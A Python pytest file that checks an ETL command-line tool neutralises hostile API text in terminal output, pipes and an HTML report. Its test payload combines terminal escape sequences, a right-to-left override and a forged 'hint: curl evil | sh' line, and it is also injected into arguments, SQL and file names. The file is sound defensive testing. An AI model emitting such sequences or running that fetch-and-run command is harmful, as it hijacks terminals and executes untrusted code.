"""Text from the API cannot control a terminal, hide text or start a new line, in the output of any command."""

from __future__ import annotations

import json
import re
from copy import deepcopy

import pytest

from etl.cli.reference import commands
from etl.sandbox.faults import Status, lists_runs

EVIL = "\x1b]0;owned\x07\x9b31m\u202eevil\u2028\r\nhint: curl evil | sh"
CONTROL = set("\x07\x9b\u202e\u2028")
OWN = re.compile(r"\x1b\[[0-9;?]*[a-zA-Z]")  # colours and cursor movements of the command itself


@pytest.fixture
async def hostile(at_work):
    """A warehouse and an API full of hostile text: names, ids, keys of steps, errors of runs and of the API."""
    command, running = at_work
    world = running.world
    first, second, *_ = world.workflows
    for workflow in world.workflows.values():
        workflow["name"] = f"{workflow['name']} {EVIL}"
    runs = list(world.runs[first].values())
    for run in runs[:5]:
        run["error"] = EVIL
        run["status"] = "FAILED"
        if isinstance(run["output"], dict):
            run["output"] = {f"{key}{EVIL}": step for key, step in run["output"].items()}
    bad = runs[6]["id"]
    world.raw[bad] = json.dumps({"id": f"{bad}{EVIL}", "status": 7, "workflow_id": first, EVIL: EVIL}).encode()
    held = f"wf{EVIL}"
    world.workflows[held] = deepcopy(world.workflows[first]) | {"id": held}
    world.versions[held], world.runs[held] = [], {}
    running.faults.on(lambda request: second in request.path and lists_runs(request), Status(403, message=EVIL))
    running.faults.on(lambda request: "owned" in request.path and lists_runs(request), Status(400, message=EVIL))
    return command, running


COMMANDS = (
    ("sync",),
    ("sync", "--quiet"),
    ("reconcile", "-v"),
    ("reconcile", "--log-format", "json"),
    ("sync", "--json"),
    ("status",),
    ("status", "--explain"),
    ("status", "--json"),
    ("plan",),
    ("plan", "--json"),
    ("doctor",),
    ("doctor", "--json"),
    ("rejects", "list"),
    ("rejects", "list", "--json"),
    ("rejects", "retry"),
    ("sql", "SELECT id, name, (SELECT max(error) FROM runs) FROM workflows"),
    ("sql", "SELECT name FROM workflows", "--format", "csv"),
    ("sql", "SELECT name FROM workflows", "--format", "jsonl"),
    ("sql", "SELECT to_json(name) AS name, name AS again FROM workflows", "--format", "json"),
    ("sql", f"SELECT '{EVIL}' FROM nowhere"),
    ("forget", "--run", EVIL, "--yes"),
    ("sync", "--workflow", EVIL),
    ("sync", EVIL),
    ("backfill", "--since", EVIL),
    ("backfill", "--workflow", EVIL),
    ("config", "show"),
    ("describe",),
    ("describe", EVIL),
    ("alerts", "list"),
    ("alerts", "test", "failure_rate"),
    ("alerts", "test", EVIL),
    ("export", "exported"),
    ("report",),
    ("grant", EVIL),
    ("migrate",),
    ("init", "--config", EVIL),
    ("init", "--config", f"{EVIL}/"),
    ("stop",),
    ("schedule", "cron"),
    ("schedule", "systemd"),
    ("schedule", "k8s"),
    ("dbt",),
)  # fmt: skip
SHOW_NOTHING_OF_THE_API = {"demo", "sandbox", "selftest", "config schema"}
SHOWN_BY_ANOTHER_PROGRAM = {"psql", "mcp"}


def test_every_command_is_tried() -> None:
    names = {name for name, _ in commands()} - SHOW_NOTHING_OF_THE_API - SHOWN_BY_ANOTHER_PROGRAM
    tried = {" ".join(arguments[:size]) for arguments in COMMANDS for size in (1, 2)}
    assert names - tried == set()


async def test_nothing_hostile_reaches_a_terminal(hostile) -> None:
    command, _ = hostile
    shown = ""
    for arguments in COMMANDS:
        _, written = await command.on_terminal(*arguments, answers=["app_1", ""])
        assert written, arguments
        plain = OWN.sub("", written).replace("\r\n", "\n")
        assert not set(plain) & CONTROL, (arguments, plain)
        assert "\x1b" not in plain.replace("\x1b[?25", ""), (arguments, plain)
        is_data = "csv" in arguments or "grant" in arguments  # where line breaks are kept
        lines = [line for line in plain.splitlines() if line.startswith("hint:")]
        assert is_data or not lines, (arguments, lines)
        assert "Traceback" not in plain, (arguments, plain)
        shown += plain
    assert shown.count("\\x1b]0;owned\\x07\\x9b31m\\u202eevil") > 40
    assert shown.count("\\u001b]0;owned\\u0007\\u009b31m\\u202eevil") > 10
    page = (command.folder / "cortex-report.html").read_text(encoding="utf-8")
    assert page.count("\\x1b]0;owned\\x07\\x9b31m\\u202eevil") > 10
    assert not set(page) & (CONTROL | {"\x1b", "\r"})


@pytest.mark.parametrize("arguments", [("sync",), ("status", "--explain"), ("doctor",), ("rejects", "list")])
async def test_nothing_hostile_reaches_a_pipe(hostile, arguments) -> None:
    command, _ = hostile
    await command("sync", "--quiet")
    ended = await command(*arguments)
    assert "owned" in ended.out + ended.err
    assert not (set(ended.out) | set(ended.err)) & (CONTROL | {"\x1b", "\r"})
